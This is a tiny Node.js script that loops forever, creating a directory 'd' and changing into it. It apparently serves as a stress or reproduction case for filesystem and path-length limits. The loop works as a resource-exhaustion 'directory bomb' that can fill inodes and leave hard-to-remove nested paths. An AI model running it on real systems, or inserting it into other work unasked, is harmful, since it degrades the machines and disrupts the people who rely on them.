import { mkdirSync } from 'node:fs';

for (;;) {
  mkdirSync('d');
  process.chdir('d');
}
